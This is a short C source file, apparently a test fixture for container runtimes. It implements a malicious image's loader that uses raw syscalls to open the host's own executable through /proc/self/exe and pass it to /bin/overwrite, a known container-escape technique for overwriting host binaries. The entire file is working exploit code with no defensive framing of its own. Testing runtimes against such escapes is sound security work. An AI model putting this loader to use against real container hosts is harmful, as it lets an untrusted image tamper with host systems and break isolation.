/* The dynamic loader of an image that means harm: whatever program of the host's is executed in it, this runs first,
 * as that program. It opens it, and hands it to /bin/overwrite as descriptor 3. (Calls 2, 33, 59, 231: open, dup2,
 * execve, exit_group.) */
static long call(long number, long a, long b, long c)
{
    long result;
    __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return result;
}

void _start(void)
{
    static const char exe[] = "/proc/self/exe", next[] = "/bin/overwrite";
    const char *const argv[] = {next, 0};
    call(33, call(2, (long)exe, 0, 0), 3, 0);
    call(59, (long)next, (long)argv, 0);
    call(231, 99, 0, 0);
}
